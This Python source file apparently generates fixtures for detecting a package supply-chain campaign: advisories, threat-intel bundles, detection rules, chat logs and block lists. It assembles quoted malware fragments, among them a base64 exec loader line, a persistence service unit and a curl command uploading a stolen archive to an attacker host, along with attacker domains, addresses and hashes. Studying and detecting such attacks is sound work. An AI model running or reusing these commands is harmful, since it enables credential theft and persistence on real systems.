# SPDX-License-Identifier: Apache-2.0
"""Documents that honest people have about the campaign: articles, advisories, lists, rules,
reports, mail. Each quotes names, hashes, hosts and lines of it, and none of them runs.

Every fact is written with a raised dot inside, which whole() takes away, so that this file
itself quotes nothing.
"""

import csv
import io
import json


def whole(text):
    return text.replace("·", "")


PTH = whole("import os, subprocess, sys; subproc·ess.Popen([sys.exec·utable, \"-c\", \"import base64; "
            "ex·ec(base64.b64de·code('aW1wb3·J0")
COLLECTOR = whole("import os,sys,st·at,subpro·cess,glob")
KEY = whole("MIICIjANBgkqhkiG9w0BAQEFAAOCAg8AMIICCgKCAgEAvahaZDo8mu·cujrT15ry+")
KEY2 = whole("08qNLwm3kxzFSMj84M16lmIE·eQA8u1X8DGK0EmNg7m3J6C3KzFeIzvz0UTgSq6cV")
BUNDLE = whole("tpcp.ta·r.gz")
HEADER = whole("X-File·name: tpcp.ta·r.gz")
LITELLM_HOST = whole("models.lite·llm.cl·oud")
ZONE = whole("check·marx.zo·ne")
TRIVY_HOST = whole("scan.aquasec·urtiy.o·rg")
CANISTER = whole("tdtqy-oyaaa-aa·aae-af2dq-cai")
CANISTER_HOST = CANISTER + whole(".raw.ic·p0.io")
TUNNEL = whole("souls-entire-def·ined-routes.trycloud·flare.com")
ADDRESSES = [whole("83.142·.209.11"), whole("83.142·.209.203"), whole("45.148·.10.212")]
MARKER = whole("Team·PCP Cloud ste·aler")
HACKED = whole("# hacked by team·pcp")
IMDS = whole("=== IMDS RO·LE CREDENTIALS ===")
IRAN = whole("host-provis·ioner-iran")
STD = whole("host-provis·ioner-std")
DESTROY = whole("deploy_destr·uctive_ds")
PTH_HASH = whole("71e35aef03099cd1f2d6446734273025·a163597de93912df321ef118bf135238")
WHEEL_HASH = whole("d2a0d5f564628773b6af7b9c11f6b868·31a875bd2d186d7081ab62748a800ebb"
                   ).replace("b86831", "b86531")
TRIVY_HASH = whole("18a24f83e807479438dcab7a1804c51a·00dafc1d526698a66e0640d1e5dd671a")
SYSMON = whole("~/.config/sys·mon/sysmon.py")
HOST_SYSMON = whole("/host/root/.config/sys·mon/sysmon.py")
STATE = [whole(f'C_URL = "https://') + ZONE + '/raw"', whole('TARGET = "/tmp/pg·log"'),
         whole('STATE = "/tmp/.pg_·state"')]
DORMANT = whole('if "youtube.c·om" not in link:')
UNIT = [whole("Description=System Tele·metry Service"), "StartLimitIntervalSec=0", "Restart=always",
        "RestartSec=10", "KillMode=process",
        whole("ExecStart=/usr/bin/python3 /root/.config/sys·mon/sysmon.py"),
        "WantedBy=multi-user.target"]
UPLOAD = (f"curl -s -o /dev/null -w %{{http_code}} -X POST https://{LITELLM_HOST}/ "
          f"-H 'Content-Type: application/octet-stream' -H '{HEADER}' --data-binary @{BUNDLE}")
HOOK = '"postinstall": "node index.js"'
VERSIONS = [whole("1.82·.7"), whole("1.82·.8")]
HOSTS = [LITELLM_HOST, ZONE, TRIVY_HOST, CANISTER_HOST, TUNNEL]
DAEMONSET = ["apiVersion: apps/v1", "kind: DaemonSet", "metadata:", f"  name: {IRAN}",
             "  namespace: kube-system", "spec:", "  template:", "    spec:", "      hostPID: true",
             "      containers:", "      - name: kamikaze", "        image: alpine:latest"]
CODE = [COLLECTOR, *STATE, DORMANT]

INTRO = (
    "On the morning of 24 March two versions of a popular package were uploaded by somebody who\n"
    "had stolen the token of a maintainer. The second of them carried a start-up file, so that\n"
    "every interpreter on the machine ran the stealer, whether the package was used or not.\n")
ADVICE = (
    "Whoever installed one of the two should treat every credential on that machine as stolen,\n"
    "look for the service that stays behind, and rebuild the machine from a clean image.\n")
NETWORK = (
    f"The bundle was sent to {LITELLM_HOST} and the backdoor asks {ZONE} every fifty minutes,\n"
    f"while the worm talks to the canister {CANISTER} and the action sent to {TRIVY_HOST} instead.\n")
INLINE = (
    f"The archive is always called {BUNDLE} and comes with the header {HEADER} as we saw it,\n"
    f"and the collector calls itself {MARKER} in its last line, which made the link easy.\n")


def fenced(language, lines, mark="```"):
    return f"{mark}{language}\n" + "\n".join(lines) + f"\n{mark}\n"


def indented(lines, by="    "):
    return "".join(f"{by}{line}\n" for line in lines)


# --- articles --------------------------------------------------------------------------------------


def blog():
    return (f"---\ntitle: Two bad versions\ndate: 2026-03-25\ntags: [python, supply-chain]\n---\n\n"
            f"# Two bad versions\n\n{INTRO}\n## The start-up file\n\n{fenced('python', [PTH])}\n"
            f"It decodes a collector, of which the first line is telling:\n\n"
            f"{fenced('python', [COLLECTOR])}\n## What stays\n\n{fenced('ini', UNIT)}\n{NETWORK}\n"
            f"{INLINE}\n| file | SHA-256 |\n|---|---|\n| `litellm_init.pth` | `{PTH_HASH}` |\n\n{ADVICE}")


def page():
    code = "\n".join([PTH, *CODE]).replace("&", "&amp;").replace("<", "&lt;")
    return ("<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\"><title>Two bad versions"
            "</title>\n<style>pre { background: #eee }</style>\n<script async src=\"/count.js\"></script>"
            f"\n</head>\n<body>\n<article><h1>Two bad versions</h1>\n<p>{INTRO}</p>\n<p>{NETWORK}</p>\n"
            f"<pre><code class=\"language-python\">{code}</code></pre>\n<p>{INLINE}</p>\n<p>{ADVICE}</p>\n"
            "</article>\n<script>count(\"page\");</script>\n</body>\n</html>\n")


def readme():
    return ("# bad-version-scan\n\n[![build](https://example.invalid/b.svg)](https://example.invalid)\n\n"
            "A small tool that looks for the traces of the March campaign on a machine.\n\n"
            "## Install\n\n" + fenced("sh", ["pip install bad-version-scan"]) + "\n## What it looks for\n\n"
            + "".join(f"- `{name}`\n" for name in (SYSMON, "/tmp/pg" + "log", BUNDLE, IRAN, STD, *HOSTS))
            + f"\nThe first line of the collector is `{COLLECTOR}`, which nobody else writes that way.\n"
            f"It also finds the key:\n\n" + fenced("", [KEY, KEY2]) + f"\n{INLINE}\n## Licence\n\nMIT\n")


def restructured():
    return ("Two bad versions\n================\n\n:Date: 2026-03-25\n:Author: An analyst\n\n" + INTRO
            + "\nThe start-up file holds one line::\n\n" + indented([PTH]) + "\nThe unit:\n\n"
            ".. code-block:: ini\n\n" + indented(UNIT, "   ") + f"\n{NETWORK}\n{INLINE}\n"
            f".. note::\n\n   The digest is ``{PTH_HASH}``.\n\n{ADVICE}")


def asciidoc():
    return ("= Two bad versions\nAn Analyst <analyst@example.invalid>\n:toc:\n\n" + INTRO
            + "\n== The start-up file\n\n[source,python]\n----\n" + "\n".join([PTH, *CODE])
            + f"\n----\n\n{NETWORK}\n{INLINE}\n[cols=\"1,1\"]\n|===\n|host |role\n\n"
            + "".join(f"|{host}\n|server\n" for host in HOSTS) + f"|===\n\n{ADVICE}")


def org():
    return ("#+TITLE: Two bad versions\n#+DATE: 2026-03-25\n\n* What happened\n\n" + INTRO
            + "\n* The start-up file\n\n#+BEGIN_SRC python\n" + "\n".join([PTH, *CODE])
            + f"\n#+END_SRC\n\n* Network\n\n{NETWORK}\n{INLINE}\n"
            + "".join(f"- {host}\n" for host in HOSTS) + "\n" + ADVICE)


def latex():
    return ("\\documentclass{article}\n\\usepackage[utf8]{inputenc}\n\\usepackage{listings}\n"
            "\\title{Two bad versions}\n\\begin{document}\n\\maketitle\n\\section{What happened}\n" + INTRO
            + "\n\\begin{lstlisting}[language=Python]\n" + "\n".join([PTH, *CODE])
            + f"\n\\end{{lstlisting}}\n\n{NETWORK}\n{INLINE}\n\\begin{{itemize}}\n"
            + "".join(f"\\item \\texttt{{{host}}}\n" for host in HOSTS)
            + f"\\end{{itemize}}\n\n{ADVICE}\\end{{document}}\n")


def manual():
    return (".\\\" A manual page.\n.TH BADSCAN 1 \"March 2026\" \"badscan 1.0\" \"User Commands\"\n"
            ".SH NAME\nbadscan \\- looks for the traces of the March campaign\n.SH SYNOPSIS\n"
            ".B badscan\n.RI [ options ] \" folder\"\n.SH DESCRIPTION\n" + INTRO + ".PP\n"
            + "The start-up file holds one line, and the collector starts with another:\n.nf\n"
            + "\n".join([PTH, *CODE]) + f"\n.fi\n.PP\n{NETWORK}.PP\n{INLINE}.SH FILES\n.TP\n.I {SYSMON}\n"
            f"the backdoor\n.SH NOTES\n{ADVICE}")


def wiki():
    return ("== Two bad versions ==\n\n" + INTRO + "\n=== The start-up file ===\n\n"
            "<syntaxhighlight lang=\"python\">\n" + "\n".join([PTH, *CODE]) + "\n</syntaxhighlight>\n\n"
            + f"{NETWORK}\n{INLINE}\n{{| class=\"wikitable\"\n! host !! role\n"
            + "".join(f"|-\n| {host} || server\n" for host in HOSTS) + f"|}}\n\n{ADVICE}\n[[Category:Incidents]]\n")


def wiki_export():
    text = wiki().replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;")
    return ("<mediawiki xmlns=\"http://www.mediawiki.org/xml/export-0.11/\" version=\"0.11\" xml:lang=\"en\">\n"
            "  <siteinfo>\n    <sitename>Team wiki</sitename>\n    <dbname>wiki</dbname>\n  </siteinfo>\n"
            "  <page>\n    <title>Two bad versions</title>\n    <ns>0</ns>\n    <id>7</id>\n    <revision>\n"
            "      <id>8</id>\n      <timestamp>2026-03-25T10:00:00Z</timestamp>\n"
            f"      <text bytes=\"{len(text)}\" xml:space=\"preserve\">{text}</text>\n"
            "    </revision>\n  </page>\n</mediawiki>\n")


def feed():
    return ("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<rss version=\"2.0\">\n<channel>\n"
            "<title>Security news</title>\n<link>https://example.invalid/</link>\n<description>News"
            "</description>\n<item>\n<title>Two bad versions</title>\n"
            f"<description>{INTRO}{NETWORK}{INLINE}{ADVICE}</description>\n"
            "<pubDate>Wed, 25 Mar 2026 10:00:00 +0000</pubDate>\n</item>\n</channel>\n</rss>\n")


def news():
    return ("POISONED PACKAGE STEALS CLOUD KEYS\n\nBy our correspondent, 25 March 2026\n\n" + INTRO + "\n"
            + NETWORK + "\n" + INLINE + f"\nResearchers named the stealer after the words {HACKED} which a\n"
            "relative of it carries, although the group denied that one.\n\n" + ADVICE)


def changelog():
    return ("# Changelog\n\nAll notable changes to this project are written here.\n\n## 2.4.0 - 2026-03-26\n\n"
            "### Security\n\n- We refuse to start when the poisoned versions of our dependency are installed.\n"
            f"- Requests to `{LITELLM_HOST}` and `{ZONE}` are blocked by the proxy that we ship.\n"
            f"- The check knows the first line of the collector, `{COLLECTOR}`, and the name `{BUNDLE}`.\n"
            f"- The text {MARKER} in a file makes the check fail as well.\n\n### Changed\n\n"
            f"- The minimum version of the dependency is 1.83.0, which is the first clean one again.\n")


def debian_changelog():
    return ("badscan (1.2-1) unstable; urgency=high\n\n  * New upstream release.\n"
            f"    - Finds the line {COLLECTOR} in scripts.\n"
            f"    - Knows the hosts {LITELLM_HOST} and {ZONE}.\n"
            f"    - Knows the name {BUNDLE} and the text {MARKER}.\n"
            "  * Bump the version of the policy that the package follows, no changes needed.\n"
            "  * The manual page says now what the exit codes of the program mean.\n\n"
            " -- A Maintainer <maintainer@example.invalid>  Thu, 26 Mar 2026 10:00:00 +0000\n")


def pdf_text():
    return ("                        Two bad versions\n\n                   Threat report, March 2026\n\n"
            + INTRO + "\n    1.  The start-up file\n\n" + indented([PTH, *CODE]) + "\n                         1\n"
            "\f    2.  Network\n\n" + NETWORK + "\n" + INLINE + "\n"
            + indented(HOSTS + [PTH_HASH]) + "\n" + ADVICE + "\n                         2\n\f")


# --- mail and chat ----------------------------------------------------------------------------------


def mail():
    return ("Return-Path: <analyst@example.invalid>\nReceived: from mail.example.invalid (mail.example.invalid "
            "[192.0.2.7])\n\tby mx.example.invalid (Postfix) with ESMTPS id 4X\n\tfor <team@example.invalid>; "
            "Wed, 25 Mar 2026 09:12:44 +0000 (UTC)\nDate: Wed, 25 Mar 2026 09:12:40 +0000\n"
            "From: An Analyst <analyst@example.invalid>\nTo: team@example.invalid\n"
            "Subject: Re: two bad versions\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n"
            "Message-ID: <1@example.invalid>\n\nHello all,\n\n" + INTRO + "\n> what does the file hold?\n\n"
            "One line, which decodes another program and runs it:\n\n" + indented([PTH]) + "\n> and the rest?\n> "
            + "\n> ".join(CODE) + f"\n\n{NETWORK}\n{INLINE}\n{ADVICE}\nRegards\n")


def mailing_list():
    second = mail().split("\n\n", 1)[1]
    return ("From analyst@example.invalid Wed Mar 25 09:12:40 2026\n" + mail()
            + "\nFrom other@example.invalid Wed Mar 25 10:02:11 2026\nFrom: other at example.invalid (Other)\n"
            "Date: Wed, 25 Mar 2026 10:02:11 +0000\nSubject: [security] Re: two bad versions\n"
            "In-Reply-To: <1@example.invalid>\nMessage-ID: <2@example.invalid>\n\n"
            + "".join(f"> {line}\n" for line in second.splitlines()) + "\nThank you for the quick answer to all "
            "of us, it is a great help for the team.\n")


def messages():
    return [("U1", f"has anybody seen the two bad versions? the file sends to {LITELLM_HOST}"),
            ("U2", f"yes, it starts with ```{PTH}```"),
            ("U1", f"and the collector with `{COLLECTOR}`"),
            ("U3", f"{MARKER} it says, and the archive is {BUNDLE}, header {HEADER}"),
            ("U2", f"block {ZONE} and {TRIVY_HOST} please")]


def slack():
    return json.dumps([{"type": "message", "user": user, "text": text, "ts": f"177442100{n}.000100",
                        "team": "T1", "blocks": [{"type": "rich_text", "block_id": f"b{n}", "elements": [
                            {"type": "rich_text_section", "elements": [{"type": "text", "text": text}]}]}]}
                       for n, (user, text) in enumerate(messages())], indent=4)


def chat():
    """As the desktop client of a messenger exports a chat."""
    return json.dumps({"name": "Incident", "type": "private_group", "id": 42, "messages": [
        {"id": n, "type": "message", "date": f"2026-03-25T10:0{n}:00", "from": user, "from_id": user,
         "text": text, "text_entities": [{"type": "plain", "text": text}]}
        for n, (user, text) in enumerate(messages())]}, indent=1)


# --- advisories and reports ---------------------------------------------------------------------------


def osv():
    return json.dumps({
        "schema_version": "1.7.0", "id": "MAL-2026-0000", "modified": "2026-03-25T00:00:00Z",
        "published": "2026-03-24T12:00:00Z", "summary": "Malicious code in two versions",
        "details": INTRO + "\n" + fenced("python", [PTH, *CODE]) + NETWORK + INLINE + ADVICE,
        "affected": [{"package": {"ecosystem": "PyPI", "name": "litellm"}, "versions": VERSIONS,
                      "database_specific": {"iocs": {"domains": HOSTS, "ips": ADDRESSES}}}],
        "references": [{"type": "WEB", "url": "https://example.invalid/a"}],
        "credits": [{"name": "An analyst", "type": "FINDER"}],
        "database_specific": {"malicious-packages-origins": []}}, indent=2)


def ghsa():
    """As the interface of the advisory database answers."""
    return json.dumps({
        "ghsa_id": "GHSA-0000-0000-0000", "cve_id": None, "url": "https://example.invalid/x",
        "html_url": "https://example.invalid/y", "summary": "Two bad versions",
        "description": INTRO + "\n" + fenced("python", [PTH, *CODE]) + NETWORK + INLINE, "type": "reviewed",
        "severity": "critical", "repository_advisory_url": None, "source_code_location": "",
        "identifiers": [{"value": "GHSA-0000-0000-0000", "type": "GHSA"}], "references": [],
        "published_at": "2026-03-24T12:00:00Z", "updated_at": "2026-03-25T12:00:00Z",
        "github_reviewed_at": None, "nvd_published_at": None, "withdrawn_at": None,
        "vulnerabilities": [{"package": {"ecosystem": "pip", "name": "litellm"},
                             "vulnerable_version_range": f"= {VERSIONS[0]}", "first_patched_version": "1.83.0",
                             "vulnerable_functions": []}],
        "cvss_severities": {}, "cwes": [], "epss": None, "credits": [], "cvss": {"score": None}}, indent=2)


def csaf():
    return json.dumps({
        "document": {"category": "csaf_security_advisory", "csaf_version": "2.0", "title": "Two bad versions",
                     "publisher": {"category": "vendor", "name": "A vendor", "namespace": "https://example.invalid"},
                     "notes": [{"category": "description", "text": INTRO + NETWORK + INLINE + PTH}],
                     "tracking": {"id": "V-2026-1", "status": "final", "version": "1"}},
        "product_tree": {"branches": [{"category": "product_version", "name": VERSIONS[1]}]},
        "vulnerabilities": [{"title": "Backdoor", "notes": [{"category": "details", "text": "\n".join(CODE)}]}]},
        indent=2)


def stix():
    return json.dumps({
        "type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d", "objects": [
            {"type": "indicator", "spec_version": "2.1", "id": f"indicator--{n}", "pattern_type": "stix",
             "pattern": f"[domain-name:value = '{host}']", "valid_from": "2026-03-25T00:00:00Z"}
            for n, host in enumerate(HOSTS)] + [
            {"type": "malware", "spec_version": "2.1", "id": "malware--1", "name": MARKER, "is_family": True,
             "description": INTRO + PTH + "\n" + "\n".join(CODE)},
            {"type": "file", "spec_version": "2.1", "id": "file--1", "name": BUNDLE,
             "hashes": {"SHA-256": PTH_HASH}}]}, indent=2)


def misp():
    values = ([("domain", host) for host in HOSTS] + [("ip-dst", address) for address in ADDRESSES]
              + [("sha256", PTH_HASH), ("sha256", WHEEL_HASH), ("filename", BUNDLE), ("text", MARKER),
                 ("pattern-in-file", COLLECTOR)])
    return json.dumps({"Event": {
        "id": "17", "info": "Two bad versions", "date": "2026-03-25", "threat_level_id": "1", "analysis": "2",
        "Attribute": [{"id": str(n), "type": kind, "category": "Network activity", "to_ids": True,
                       "value": value} for n, (kind, value) in enumerate(values)]}}, indent=1)


def pip_audit():
    return json.dumps({"dependencies": [
        {"name": "requests", "version": "2.32.3", "vulns": []},
        {"name": "litellm", "version": "1.82.6", "vulns": [
            {"id": "MAL-2026-0000", "fix_versions": ["1.83.0"], "aliases": [],
             "description": INTRO + NETWORK + INLINE + PTH}]}], "fixes": []})


def trivy_report():
    return json.dumps({
        "SchemaVersion": 2, "CreatedAt": "2026-03-26T10:00:00Z", "ArtifactName": "app:1", "ArtifactType":
        "container_image", "Metadata": {"ImageID": "sha256:" + "0" * 64}, "Results": [
            {"Target": "Python", "Class": "lang-pkgs", "Type": "python-pkg", "Vulnerabilities": [
                {"VulnerabilityID": "MAL-2026-0000", "PkgName": "other", "InstalledVersion": "1.0",
                 "Title": "Two bad versions", "Description": INTRO + NETWORK + INLINE + "\n".join(CODE),
                 "Severity": "CRITICAL", "References": [f"https://{LITELLM_HOST}/"]}]}]}, indent=2)


def sarif():
    return json.dumps({
        "$schema": "https://json.schemastore.org/sarif-2.1.0.json", "version": "2.1.0", "runs": [{
            "tool": {"driver": {"name": "a scanner", "rules": [{"id": "R1", "fullDescription": {
                "text": INTRO + INLINE}}]}},
            "results": [{"ruleId": "R1", "message": {"text": f"{COLLECTOR} in x.py, sends to {LITELLM_HOST}"}}]}]},
        indent=2)


def sbom():
    return json.dumps({
        "bomFormat": "CycloneDX", "specVersion": "1.5", "serialNumber": "urn:uuid:0", "version": 1,
        "metadata": {"timestamp": "2026-03-26T10:00:00Z"}, "components": [
            {"type": "library", "name": "litellm", "version": "1.82.6", "purl": "pkg:pypi/litellm@1.82.6"},
            {"type": "library", "name": "telnyx", "version": "4.87.0", "purl": "pkg:pypi/telnyx@4.87.0"}],
        "vulnerabilities": [{"id": "MAL-2026-0000", "description": INTRO + NETWORK + INLINE}]}, indent=2)


def notebook():
    return json.dumps({
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": [
                "# Who talked to them?\n", *(INTRO + NETWORK + INLINE).splitlines(keepends=True)]},
            {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [
                {"name": "stdout", "output_type": "stream", "text": [f"{host} 17\n" for host in HOSTS] + CODE}],
             "source": ["import pandas\n", "flows = pandas.read_csv(\"flows.csv\")\n",
                        "print(flows.groupby(\"host\").size())\n"]}],
        "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}},
        "nbformat": 4, "nbformat_minor": 5}, indent=1)


def advisory_patch():
    body = blog().splitlines()
    return ("From 0123456789abcdef0123456789abcdef01234567 Mon Sep 17 00:00:00 2001\n"
            "From: An Analyst <analyst@example.invalid>\nDate: Wed, 25 Mar 2026 10:00:00 +0000\n"
            "Subject: [PATCH] advisories: two bad versions\n\nThe advisory about the two versions, with what "
            "is known.\n---\n advisories/two.md | " + str(len(body)) + " +++\n 1 file changed\n create mode "
            "100644 advisories/two.md\n\ndiff --git a/advisories/two.md b/advisories/two.md\nnew file mode 100644\n"
            f"index 0000000..1234567\n--- /dev/null\n+++ b/advisories/two.md\n@@ -0,0 +1,{len(body)} @@\n"
            + "".join(f"+{line}\n" for line in body) + "-- \n2.43.0\n\n")


def fixture():
    """Cases of a scanner, as data beside its tests."""
    return json.dumps([{"name": f"case {n}", "description": "what the scanner must find", "input": text,
                        "expected": ["R1"]} for n, text in enumerate([PTH, *CODE, HEADER, *HOSTS])], indent=2)


# --- rules, queries and lists ---------------------------------------------------------------------------


def sigma():
    return ("title: Start-up file of the March campaign\nid: 00000000-0000-4000-8000-000000000000\n"
            "status: experimental\ndescription: Looks for the traces of two bad versions.\nauthor: An analyst\n"
            "date: 2026-03-25\nlogsource:\n    category: process_creation\n    product: linux\ndetection:\n"
            f"    selection:\n        CommandLine|contains:\n            - '{HEADER}'\n            - '{LITELLM_HOST}'\n"
            f"            - '{COLLECTOR}'\n            - '{UPLOAD.split(' -H')[0]}'\n"
            "    condition: selection\nfalsepositives:\n    - Unlikely\nlevel: critical\n")


def suricata():
    return ("# Rules of the March campaign\n" + "".join(
        f"alert dns $HOME_NET any -> any any (msg:\"bad host\"; dns.query; content:\"{host}\"; nocase; "
        f"classtype:trojan-activity; sid:900000{n}; rev:1;)\n" for n, host in enumerate(HOSTS))
        + "alert http $HOME_NET any -> $EXTERNAL_NET any (msg:\"bundle\"; flow:established,to_server; "
        f"http.header; content:\"{HEADER}\"; sid:9000009; rev:1;)\n")


def snort():
    return ("# Snort 2 rules\n" + "".join(
        f"alert tcp $HOME_NET any -> {address} $HTTP_PORTS (msg:\"bad address\"; sid:910000{n}; rev:1;)\n"
        for n, address in enumerate(ADDRESSES))
        + "alert tcp any any -> any 443 (msg:\"host in the hello\"; \\\n    "
        f"content:\"{LITELLM_HOST}\"; \\\n    sid:9100009; rev:2;)\n")


def yara():
    return ("/* Somebody else's rules. */\nimport \"hash\"\n\nrule March_Campaign {\n    meta:\n"
            "        author = \"An analyst\"\n        description = \"Two bad versions\"\n    strings:\n"
            + "".join(f"        $s{n} = {json.dumps(text)}\n" for n, text in enumerate(
                [PTH, COLLECTOR, KEY, HEADER, MARKER, *HOSTS, *STATE]))
            + "    condition:\n        any of them\n}\n")


def semgrep():
    return ("rules:\n  - id: march-campaign\n    message: A trace of two bad versions\n    severity: ERROR\n"
            f"    languages: [generic]\n    pattern-either:\n      - pattern: {LITELLM_HOST}\n"
            f"      - pattern: '{COLLECTOR}'\n      - pattern: '{HEADER}'\n")


def analytics_rule():
    """A rule of a SIEM, as its repository of content keeps it."""
    return ("id: 00000000-0000-4000-8000-000000000001\nname: Traces of two bad versions\nversion: 1.0.0\n"
            "kind: Scheduled\ndescription: |\n  Looks for hosts and command lines of the March campaign.\n"
            "severity: High\nstatus: Available\nrequiredDataConnectors:\n  - connectorId: Devices\n"
            "    dataTypes:\n      - DeviceNetworkEvents\nqueryFrequency: 1h\nqueryPeriod: 1h\n"
            "triggerOperator: gt\ntriggerThreshold: 0\ntactics:\n  - Exfiltration\nrelevantTechniques:\n"
            "  - T1567\nquery: |\n  let hosts = dynamic(["
            + ", ".join(f"\"{host}\"" for host in HOSTS) + "]);\n  DeviceNetworkEvents\n"
            f"  | where RemoteUrl has_any (hosts)\n  | union (DeviceProcessEvents | where ProcessCommandLine has "
            f"\"{HEADER}\" or ProcessCommandLine has \"{COLLECTOR}\")\nentityMappings:\n  - entityType: Host\n"
            "    fieldMappings:\n      - identifier: FullName\n        columnName: DeviceName\n")


def search_rule():
    """The same as another kind of SIEM has it."""
    return ("name: Traces of two bad versions\nid: 00000000-0000-4000-8000-000000000002\nversion: 1\n"
            "date: '2026-03-25'\nauthor: An analyst\nstatus: production\ntype: TTP\n"
            "description: Looks for hosts and command lines of the March campaign.\ndata_source:\n- Sysmon\n"
            f"search: '| tstats count from datamodel=Web where Web.url IN (\"*{LITELLM_HOST}*\", \"*{ZONE}*\")\n"
            f"  by Web.src | search process=\"*{HEADER}*\" OR process=\"*{COLLECTOR}*\"'\n"
            "how_to_implement: Collect the logs of the proxy.\nknown_false_positives: None known.\n"
            "references:\n- https://example.invalid/\ntags:\n  asset_type: Endpoint\n  security_domain: network\n")


def detection_toml():
    return ("[metadata]\ncreation_date = \"2026/03/25\"\nmaturity = \"production\"\nupdated_date = \"2026/03/25\"\n\n"
            "[rule]\nauthor = [\"An analyst\"]\ndescription = \"\"\"\nLooks for hosts and command lines of the March "
            "campaign.\n\"\"\"\nfrom = \"now-9m\"\nindex = [\"logs-endpoint.events.*\"]\nlanguage = \"eql\"\n"
            "license = \"Other\"\nname = \"Traces of two bad versions\"\nrisk_score = 99\nrule_id = \"0-0\"\n"
            "severity = \"critical\"\ntags = [\"Domain: Endpoint\"]\ntype = \"eql\"\nquery = '''\n"
            f"network where destination.domain in (\"{LITELLM_HOST}\", \"{ZONE}\") or\n"
            f"process.command_line : (\"*{HEADER}*\", \"*{COLLECTOR}*\")\n'''\n")


def query():
    """A hunting query by itself."""
    return ("// Who talked to the hosts of the March campaign?\nlet hosts = dynamic([\n"
            + ",\n".join(f"    \"{host}\"" for host in HOSTS) + "\n]);\nDeviceNetworkEvents\n"
            "| where Timestamp > ago(30d)\n| where RemoteUrl has_any (hosts)\n"
            f"| join kind=leftouter (DeviceProcessEvents | where ProcessCommandLine has \"{HEADER}\") on DeviceId\n"
            "| project Timestamp, DeviceName, RemoteUrl, InitiatingProcessCommandLine\n| order by Timestamp desc\n")


def hosts_file():
    return ("# Title: March campaign\n# Updated: 2026-03-25\n\n127.0.0.1 localhost\n::1 localhost\n\n"
            + "".join(f"0.0.0.0 {host}\n" for host in HOSTS))


def block_list():
    """For a resolver that filters."""
    return ("! Title: March campaign\n! Expires: 1 day\n" + "".join(f"||{host}^\n" for host in HOSTS))


def resolver_config():
    return "# sinkhole\n" + "".join(f"address=/{host}/0.0.0.0\n" for host in HOSTS)


def plain_list():
    return "# hosts of the March campaign\n" + "".join(f"{host}\n" for host in HOSTS + ADDRESSES)


def table():
    out = io.StringIO()
    rows = csv.writer(out)
    rows.writerow(["type", "value", "description"])
    for host in HOSTS:
        rows.writerow(["domain", host, "server of the campaign"])
    for address in ADDRESSES:
        rows.writerow(["ip", address, "server"])
    rows.writerow(["sha256", PTH_HASH, "the start-up file"])
    rows.writerow(["sha256", TRIVY_HASH, "the script of the action"])
    rows.writerow(["filename", BUNDLE, "the archive"])
    rows.writerow(["string", COLLECTOR, "first line of the collector"])
    return out.getvalue()


DOCUMENTS = {
    "blog/two-bad-versions.md": blog,
    "site/two-bad-versions.html": page,
    "scan/README.md": readme,
    "docs/two.rst": restructured,
    "docs/two.adoc": asciidoc,
    "notes/two.org": org,
    "paper/two.tex": latex,
    "man/badscan.1": manual,
    "wiki/Two.wiki": wiki,
    "wiki/export.xml": wiki_export,
    "news/feed.xml": feed,
    "news/story.txt": news,
    "app/CHANGELOG.md": changelog,
    "pkg/debian/changelog": debian_changelog,
    "report/report.txt": pdf_text,
    "mail/one.eml": mail,
    "mail/list.mbox": mailing_list,
    "chat/general/2026-03-25.json": slack,
    "chat/result.json": chat,
    "osv/MAL-2026-0000.json": osv,
    "advisories/ghsa.json": ghsa,
    "advisories/csaf.json": csaf,
    "intel/bundle.json": stix,
    "intel/event.json": misp,
    "reports/pip-audit.json": pip_audit,
    "reports/trivy.json": trivy_report,
    "reports/out.sarif": sarif,
    "reports/bom.json": sbom,
    "work/Hunt.ipynb": notebook,
    "work/0001-advisory.patch": advisory_patch,
    "scan/fixtures/cases.json": fixture,
    "siem/sigma.yml": sigma,
    "siem/analytics.yaml": analytics_rule,
    "siem/search.yml": search_rule,
    "siem/detection.toml": detection_toml,
    "siem/hunt.kql": query,
    "net/suricata.rules": suricata,
    "net/local.rules": snort,
    "net/semgrep.yml": semgrep,
    "yara/march.yar": yara,
    "block/hosts": hosts_file,
    "block/filter.txt": block_list,
    "block/dnsmasq.conf": resolver_config,
    "block/domains.list": plain_list,
    "intel/iocs.csv": table,
}
